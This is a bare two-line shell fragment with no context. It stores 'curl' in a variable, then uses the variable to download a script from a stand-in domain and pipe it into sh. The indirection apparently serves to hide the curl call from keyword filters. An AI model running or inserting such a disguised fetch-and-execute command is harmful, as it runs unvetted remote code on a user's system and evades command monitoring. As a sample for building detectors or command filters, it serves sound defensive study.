c=curl
$c https://example.com/i | sh
